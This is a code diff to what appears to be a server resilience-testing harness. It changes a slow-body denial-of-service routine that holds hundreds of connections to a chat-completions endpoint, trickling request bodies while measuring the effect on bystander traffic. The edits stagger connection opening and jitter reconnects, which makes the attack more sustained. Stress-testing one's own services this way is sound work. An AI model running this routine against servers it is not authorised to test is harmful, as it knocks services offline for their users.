@@ -17,6 +17,7 @@ from __future__ import annotations
 
 import asyncio
 import json
+import random
 from collections import Counter
 from urllib.parse import urlsplit
 
@@ -112,15 +113,16 @@ async def slow_bodies(ctx: AttackContext, connections: int = 300, trickle_s: flo
     got: Counter = Counter()
 
     async def harm():
-        async def connection():
+        async def connection(k: int):
+            await asyncio.sleep(k * trickle_s / connections)  # opened over the first trickle_s
             while True:
                 try:
                     got[await slow_body(host, port, key, "/v1/chat/completions", content_length,
                                         trickle_s)] += 1
                 except (OSError, asyncio.IncompleteReadError, ValueError) as exc:
                     got[f"error {type(exc).__name__}"] += 1
-                await asyncio.sleep(reconnect_s)
-        await asyncio.gather(*(connection() for _ in range(connections)))
+                await asyncio.sleep(reconnect_s * random.uniform(0.5, 1.5))  # not all at once again
+        await asyncio.gather(*(connection(k) for k in range(connections)))
 
     bystander = await ctx.bystander_during(harm, warmup_s=2.0)
     return AttackResult("slow_bodies", f"{connections} connections, Content-Length {content_length}, a byte every "
